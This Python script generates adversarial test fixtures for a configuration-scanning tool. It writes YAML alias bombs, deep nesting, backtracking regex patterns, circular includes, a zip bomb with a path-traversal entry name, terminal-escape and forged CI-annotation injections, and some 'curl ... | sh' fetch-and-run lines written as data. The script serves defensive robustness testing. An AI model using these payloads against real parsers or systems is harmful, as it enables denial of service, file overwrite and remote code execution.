"""Writes fixtures/hostile: files that want to hurt whoever reads them.

`python scripts/generate_hostile.py` writes them, `--check` says whether they are as they would be
written. What is larger than 100 kB is not committed: `LARGE` has it for the tests.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import sys
import zipfile
from pathlib import Path

FOLDER = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"
LARGEST_COMMITTED = 100_000

Files = dict[str, "str | bytes"]

POD = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: a\n      image: b\n"


def laughs(last: str, before: str = "") -> str:
    """Nine times nine times … nine: 9^12 leaves, were they all written out; `last` uses them."""
    rows = ["a0: &a0 [x, x, x, x, x, x, x, x, x]\n"]
    rows += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)]
    return before + "".join(rows) + last


def merged() -> str:
    """The same with merge keys: 2^24 entries."""
    rows = ["a0: &a0 {x: 1, y: 2}\n"]
    rows += [f"a{i}: &a{i}\n  <<: [*a{i - 1}, *a{i - 1}]\n" for i in range(1, 24)]
    return "".join(rows) + "dependencies: *a23\n"


def nested(opening: str, closing: str, inner: str = "", depth: int = 5000) -> str:
    return opening * depth + inner + closing * depth


ALIASES: Files = {
    "environment.yml": laughs("name: a\nchannels: *a11\ndependencies: *a11\n"),
    "merge/environment.yml": merged(),
    "circle/environment.yml": "name: a\ndependencies: &a [numpy, *a]\n",
    "compose.yml": laughs("services: {a: {image: b, command: *a11, ports: *a11}}\n"),
    ".github/workflows/a.yml": laughs("on: push\njobs: {a: {steps: [{run: *a11, env: *a11}]}}\n"),
    ".gitlab-ci.yml": laughs("b: {script: *a11, before_script: *a11}\n"),
    "playbook.yml": "- hosts: all\n  vars:\n    " + laughs("a: *a11\n").replace("\n", "\n    ")
    + "\n  tasks:\n    - shell: pip install b\n      args: *a11\n",
    "pod.yaml": laughs("", POD + "      command: [jupyter, lab]\n") + "args: *a11\n",
    "values.yaml": laughs("singleuser: {extraEnv: *a11}\nhub: {config: *a11}\n"),
    "conda-lock.yml": laughs("version: 1\nmetadata: *a11\npackage: *a11\n"),
    "group_vars/all.yml": laughs("ansible_ssh_common_args: *a11\n"),
    "pixi.lock": laughs("version: 6\nenvironments: *a11\npackages: *a11\n"),
}  # fmt: skip

NESTING: Files = {
    "environment.yml": "dependencies: " + nested("[", "]") + "\n",
    "block/environment.yml": "dependencies:\n" + "- " * 5000 + "a\n",
    "spec/environment.yml": f"dependencies:\n- \"a {nested('(', ')', '>=1', 3000)}\"\n",
    "a.ipynb": '{"nbformat": 4, "cells": ' + nested("[", "]") + "}",
    "objects.ipynb": nested('{"cells":', "}", "[]"),
    "package.json": '{"scripts": ' + nested('{"a":', "}", "1") + "}",
    ".devcontainer/devcontainer.json": '{"image": "a", "mounts": ' + nested("[", "]") + "}",
    "jupyter_server_config.json": '{"ServerApp": ' + nested("[", "]") + "}",
    "jupyter_server_config.py": "c.ServerApp.ip = " + nested("(", ")", "'a'") + "\n",
    "calls/jupyter_server_config.py": "c.ServerApp.ip = " + nested("f(", ")", "1", 900) + "\n",
    "minus/jupyter_server_config.py": "c.ServerApp.port = " + "-" * 50_000 + "1\n",
    "if/jupyter_server_config.py": "".join(" " * i + "if a:\n" for i in range(99))
    + " " * 99 + "c.ServerApp.ip = '*'\n",
    "sum/jupyter_server_config.py": "c.ServerApp.ip = " + "'a' + " * 5000 + "'b'\n",
    "pixi.toml": "a = " + nested("[", "]") + "\n",
    "tables/pixi.toml": "[" + ".".join(["a"] * 5000) + "]\nb = 1\n",
    "run.sh": "#!/bin/sh\npip install " + nested("$(a ", ")", "", 3000) + "\n",
    "braces/run.sh": "#!/bin/sh\npip install " + nested("${A:-", "}", "", 3000) + "\n",
    "groups/run.sh": "#!/bin/sh\n" + nested("( ", ") ", "pip install a ", 3000) + "\n",
    "quoted/run.sh": "#!/bin/sh\n" + "sh -c '" * 500 + "pip install a" + "'" * 500 + "\n",
    "Dockerfile": "FROM " + nested("${A:-", "}", "a", 3000) + "\nRUN pip install a\n",
    "onbuild/Dockerfile": "FROM a\n" + "ONBUILD " * 5000 + "RUN pip install a\n",
    "Makefile": "A = " + nested("$(if ", ")", "a", 3000) + "\na:\n\tpip install $(A)\n",
    "conditions/Makefile": "ifdef A\n" * 3000 + "a:\n\tpip install b\n",
    "justfile": "a := " + nested("(", ")", "'b'") + "\nc:\n  pip install {{a}}\n",
    "nginx.conf": nested("location / {", "}", "proxy_pass http://a:8888;") + "\n",
    "Caddyfile": nested("a {\n", "}\n", "reverse_proxy a:8888\n"),
    "README.md": "> " * 5000 + "```sh\npip install a\n```\n" + "- " * 5000 + "a\n",
    "brackets/README.md": nested("[", "]") + nested("![", "](a)") + "*" * 5000 + "\n",
    "requirements.txt": "a; " + nested("(", ")", "python_version > '3'") + "\nb" + "[" * 5000 + "\n",
    "a.service": "[Service]\nExecStart=/bin/sh -c " + '"' * 5001 + " jupyter lab\n",
    "ansible.cfg": "[" * 5000 + "\nhost_key_checking = " + "%(" * 5000 + "\n",
    ".gitconfig": nested("[a]\n", "") + "[core]\nsshCommand = " + '\\"' * 5000 + "\n",
    "hosts": "[a]\nb ansible_ssh_args='" + '"' * 5000 + "'\n",
    "values.yaml": "hub: {}\nsingleuser: " + nested("{a: ", "}", "b") + "\n",
    "playbook.yml": "- hosts: all\n  tasks:\n" + "".join(
        " " * 4 * (i + 1) + "- block:\n" for i in range(150)
    ) + " " * 604 + "- shell: pip install a\n",
}  # fmt: skip

PATTERNS: Files = {
    "ssh_config": "Host " + " ".join(f"*{i}*a*b*" for i in range(3000)) + "\n  ForwardAgent yes\n"
    + f"Host {'*' * 1000}x {'*a' * 500}\n  User b\nHost {'a' * 1000}\n  User c\n",
    "questions/ssh_config": f"Host {'?*' * 500}\n  User a\nHost {'ab' * 500}\n  User b\n",
    "match/ssh_config": "Match host " + ",".join(["!*a*b*c*"] * 3000) + "\n  User a\n",
    "include/ssh_config": f"Include {'*/' * 200}x {'[a-z]*' * 200} {'{a,b}' * 50}\n",
    "environment.yml": "dependencies:\n- \"numpy ^(a+)+(b*)*$\"\n- \"a[version='^((1+)+)+$']\"\n"
    f"- \"a 1.{'*.' * 500}*\"\n- \"a={'*a' * 500}=*_0\"\n- \"{'*' * 500}\"\n- \"a {'1|' * 5000}2\"\n",
    "requirements.txt": f"a=={'1.' * 5000}0\nb{'-' * 5000}c\n{'a.' * 5000}\n-e {'../' * 3000}\n"
    f"c @ {'https://' * 500}\n",
    "Dockerfile": f"FROM a\nCOPY {'*/**/' * 500} /b/\nENV A={'${A#*a*b}' * 500}\n"
    f"RUN pip install ${{B%%{'*a' * 500}}}\n",
    "README.md": f"{'`' * 5000}\n{'<!--' * 5000}\n{'a@' * 5000}\n{'$ ' * 5000}pip install b\n",
    "run.sh": f"#!/bin/sh\npip install {' ' * 20_000}a\npip install {'{a,b}' * 50}\n"
    f"curl {'-' * 5000} https://{'a.' * 5000}b/{'/' * 5000}x.sh | sh\nexport A{'=' * 5000}\n",
    "CODEOWNERS": f"{'**/' * 1000}a @b\n",
    "nginx.conf": f"location ~ ^(/a+)+{'(b*)*' * 200}$ {{ proxy_pass http://a:8888; }}\n",
    "conda-lock.yml": "version: 1\nmetadata:\n  content_hash: {linux-64: " + "a" * 5000
    + "}\n  channels: []\n  platforms: [linux-64]\n  sources: [" + "../" * 3000 + "]\npackage: []\n",
}  # fmt: skip

CIRCLES: Files = {
    "ssh_config": "Include ssh_config other.sshconfig\nHost a\n  ProxyJump b\nHost b\n"
    "  ProxyJump a\n",
    "other.sshconfig": "Include ssh_config\nInclude *.sshconfig\nHost c\n  User d\n",
    "requirements.txt": "-r requirements-dev.txt\n-c requirements.txt\nnumpy==1.26.4\n",
    "requirements-dev.txt": "-r requirements.txt\n-r ./requirements-dev.txt\npytest==8.0.0\n",
    "compose.yml": "services:\n  a:\n    extends: {file: compose.other.yml, service: b}\n"
    "  c:\n    extends: d\n  d:\n    extends: c\n    command: jupyter lab --ip=0.0.0.0\n"
    "include: [compose.yml]\n",
    "compose.other.yml": "services:\n  b:\n    extends: {file: compose.yml, service: a}\n",
    "nginx.conf": "include nginx.conf;\ninclude *.conf;\nserver { location / {\n"
    "  include nginx.conf; proxy_pass http://a:8888; } }\n",
    "Caddyfile": "(a) {\n  import b\n}\n(b) {\n  import a\n}\nc.org {\n  import a\n}\n"
    "import Caddyfile\n",
    ".gitlab-ci.yml": "include: [{local: .gitlab-ci.yml}]\na:\n  extends: [b, a]\n"
    "  script: [!reference [a, script]]\nb:\n  extends: a\n",
    "a.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 1,
         "source": ["%run a.ipynb\n", "!sh run.sh\n", "%load a.ipynb"]}]}),
    "run.sh": "#!/bin/sh\n. ./run.sh\nsh other.sh\nf() { f; g; }\ng() { f; }\nf\nA=$B\nB=$A\n"
    "jupyter lab --ip=$A\n",
    "other.sh": "#!/bin/sh\nexec sh ./run.sh\n",
    "Makefile": "include Makefile\nA = $(B)\nB = $(A)\na: b\n\tpip install $(A)\nb: a\n"
    "\t$(MAKE) a\n",
    "justfile": "import 'justfile'\na := b\nb := a\nc: d\n  just d\nd: c\n  pip install {{a}}\n",
    "package.json": '{"scripts": {"a": "npm run b", "b": "npm run a && jupyter lab"}}\n',
    "jupyter_server_config.py": "load_subconfig('jupyter_server_config.py')\nx = lambda: x()\n"
    "def f():\n    return f()\nc.ServerApp.ip = f()\n",
    "Dockerfile": "ARG A=${B}\nARG B=${A}\nFROM b AS a\nCOPY --from=b / /\nFROM a AS b\n"
    "COPY --from=a / /\nRUN pip install x\nENTRYPOINT [\"/entrypoint.sh\"]\n",
    "entrypoint.sh": "#!/bin/sh\nexec /entrypoint.sh \"$@\"\n",
    "playbook.yml": "- hosts: all\n  vars: {a: '{{ b }}', b: '{{ a }}'}\n  tasks:\n"
    "    - include_tasks: playbook.yml\n    - shell: pip install {{ a }}\n"
    "- import_playbook: playbook.yml\n",
}  # fmt: skip


def zipped() -> bytes:
    """A zip file that unpacks to 5 MB of spaces; its names lead out of the folder."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        about = zipfile.ZipInfo("../../a.ipynb", (2020, 1, 1, 0, 0, 0))
        about.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(about, b" " * 5_000_000)
    return stream.getvalue()


def notebook(source: object, outputs: object = ()) -> str:
    cell = {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": outputs,
            "source": source}  # fmt: skip
    about = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(about)


INSTALL = ["!pip install numpy\n"]
PICTURE = base64.b64encode(gzip.compress(b"\0" * 30_000_000, mtime=0)).decode("ascii")

NOTEBOOKS: Files = {
    "zip.ipynb": zipped(),
    "gzip.ipynb": gzip.compress(b" " * 5_000_000, mtime=0),
    "picture.ipynb": notebook(INSTALL, [
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": PICTURE}}]),
    "number.ipynb": notebook(INSTALL).replace('"nbformat": 4', '"nbformat": 4' + "0" * 9000),
    "digits.ipynb": notebook(INSTALL).replace('"execution_count": 1', '"execution_count": 1e99999'),
    "types.ipynb": notebook({"a": [1, None]}, {"b": 2}).replace('"metadata": {}', '"metadata": 7'),
    "lines.ipynb": notebook([["!pip install a"], None, 3, {"a": "b"}, "!pip install b"]),
    "no-cells.ipynb": '{"cells": {"a": 1}, "nbformat": "4", "metadata": []}',
    "list.ipynb": "[[], 1, {}]",
    "twice.ipynb": '{"cells": [], "cells": [{"cell_type": "code", "source": "!pip install a"}],'
    ' "nbformat": 4, "metadata": {}}',
    "not-a-number.ipynb": '{"cells": [NaN, Infinity, -Infinity], "nbformat": NaN}',
    "surrogates.ipynb": notebook(INSTALL).replace("numpy", r"\ud800\udfff\udc00\u0000"),
    "controls.ipynb": notebook(["!pip install \x1b]0;owned\x07\x9b31m\u202e\n"]),
}  # fmt: skip

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202eevil\u2066\r::error::forged\u2028##[error]forged"
ENVIRONMENT = (
    "name: a\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\nprefix: /home/a/b\n"
)

ENCODINGS: Files = {
    "empty/environment.yml": b"",
    "null/environment.yml": b"\0" * 500,
    "null-inside/environment.yml": ENVIRONMENT.replace("python", "pyt\0hon").encode(),
    "null/run.sh": b"#!/bin/sh\npip install a\0b\n\0\0pip install c\n",
    "null/ssh_config": b"Host a\0b\n  ForwardAgent\0 yes\n  IdentityFile /a\0b\n",
    "null/Dockerfile": b"FROM a\0\nCOPY a\0 /b\nRUN pip install b\0\n",
    "null/requirements.txt": b"-r a\0.txt\n-e ./\0\nnumpy\0==1\n",
    "null/jupyter_server_config.py": b"c.ServerApp.ip = '\0'\n",
    "null-name/jupyter_server_config.py": b"load_subconfig('\\0.py')\nc.ServerApp.certfile='\\0'\n",
    "utf-16/environment.yml": ENVIRONMENT.encode("utf-16"),
    "utf-16-without-mark/environment.yml": ENVIRONMENT.encode("utf-16-le"),
    "utf-16-cut/environment.yml": ENVIRONMENT.encode("utf-16")[:-1],
    "utf-16-alone/environment.yml": b"\xff\xfea\0:\0 \0\x00\xd8\n\0",
    "utf-32/environment.yml": ENVIRONMENT.encode("utf-32"),
    "latin-1/environment.yml": b"name: caf\xe9\ndependencies: [python=3.11]\n",
    "surrogates/environment.yml": b"name: \xed\xa0\x80\ndependencies: [python=3.11]\n",
    "escaped/environment.yml": b'name: "\\ud800"\nchannels: ["\\U00110000"]\ndependencies: [a]\n',
    "ends/environment.yml": b"name: a\r\nchannels: [conda-forge]\rdependencies:\n  - python=3.11\r\n"
    b"  - numpy=1.26\r  - b=1\x85  - c=1\xe2\x80\xa8prefix: /home/a/b\n",
    "ends/run.sh": b"#!/bin/sh\rpip install a\r\npip install b\n\rpip install c \\\r\n d\r",
    "marks/environment.yml": b"\xef\xbb\xbf\xef\xbb\xbfname: a\ndependencies: [\xef\xbb\xbfa]\n",
    "declared/jupyter_server_config.py": b"# coding: rot13\np.FreireNcc.vc = '*'\n",
    "undefined/jupyter_server_config.py": b"# coding: undefined\nc.ServerApp.ip = '*'\n",
    "ascii/jupyter_server_config.py": b"# coding: ascii\nc.ServerApp.ip = '*' # \xe9\xff\n",
    "escapes/environment.yml": f'name: "{ESCAPES}"\nchannels: ["{ESCAPES}"]\ndependencies:\n'
    f'  - "{ESCAPES}"\n  - numpy\n  - pip: ["{ESCAPES}"]\nprefix: "/home/{ESCAPES}"\n',
    "escaped-escapes/environment.yml": 'name: "\\e[2J\\a\\x9b\\u202e\\r::error::forged"\n'
    'channels: ["http://\\e]0;owned\\a.org/x"]\ndependencies: ["nu\\e[31mmpy"]\n',
    "escapes/run.sh": f"#!/bin/sh\ncurl -s https://x.org/{ESCAPES} | sh\npip install {ESCAPES}\n",
    "escapes/ssh_config": f"Host {ESCAPES}\n  {ESCAPES} yes\n  ForwardAgent {ESCAPES}\n",
    "escapes/Dockerfile": f"FROM {ESCAPES}\nRUN pip install {ESCAPES}\nENV TOKEN={ESCAPES}\n",
    "escapes/requirements.txt": f"{ESCAPES}\nnumpy=={ESCAPES}\n-r {ESCAPES}.txt\n",
    "escapes/jupyter_server_config.py": f"c.ServerApp.ip = {ESCAPES!r}\nc.ServerApp.token = ''\n",
}  # fmt: skip

SETTINGS: Files = {
    "circle/envguard.toml": 'extends = "other.toml"\n',
    "circle/other.toml": 'extends = "envguard.toml"\n',
    "escapes/envguard.toml": '"\\u001b[31m\\n::error::forged" = "\\u009b\\u202e"\n',
    "value/envguard.toml": 'python = "\\u001b[31m\\n::error::forged"\n',
    "null/envguard.toml": 'extends = "a\\u0000b"\n',
    "device/envguard.toml": 'extends = "/dev/zero"\n',
    "nesting/envguard.toml": "exclude = " + nested("[", "]") + "\n",
    "tables/envguard.toml": nested("a = {", "}", "b = 1") + "\n",
    "broken/pyproject.toml": "[tool.envguard]\nexclude = [\n",
    "bytes/envguard.toml": b"exclude = ['\xff']\n",
    "name/envguard.toml": 'environment-name = "^(a+)+$"\n',
    "name/environment.yml": f"name: {'a' * 60}!\nchannels: [conda-forge]\n"
    "dependencies: [python=3.11]\n",
    "exclude/envguard.toml": f'exclude = ["{"**/*a*/" * 60}*b"]\n',
    f"exclude/{'aa/' * 40}environment.yml": "name: a\nchannels: [conda-forge]\n"
    "dependencies: [python=3.11]\n",
}  # fmt: skip

CASES: dict[str, Files] = {
    "aliases": ALIASES,
    "circles": CIRCLES,
    "encodings": ENCODINGS,
    "nesting": NESTING,
    "notebooks": NOTEBOOKS,
    "patterns": PATTERNS,
    "settings": SETTINGS,
}


def written() -> dict[str, bytes]:
    """What is committed, by the path below fixtures/hostile."""
    found = {}
    for case, files in CASES.items():
        for name, content in files.items():
            data = content.encode("utf-8") if isinstance(content, str) else content
            if len(data) <= LARGEST_COMMITTED:
                found[f"{case}/{name}"] = data
    return found


def main(arguments: list[str]) -> int:
    """The exit code: 1 where `--check` finds a difference."""
    wanted = written()
    found = {
        path.relative_to(FOLDER).as_posix(): path.read_bytes()
        for path in FOLDER.rglob("*")
        if path.is_file() and path.parent != FOLDER
    }
    if "--check" in arguments:
        wrong = sorted(name for name in {*wanted, *found} if wanted.get(name) != found.get(name))
        print("".join(f"{name} is not as it is generated\n" for name in wrong), end="")
        return int(bool(wrong))
    for name in found.keys() - wanted.keys():
        (FOLDER / name).unlink()
    for name, data in wanted.items():
        path = FOLDER / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
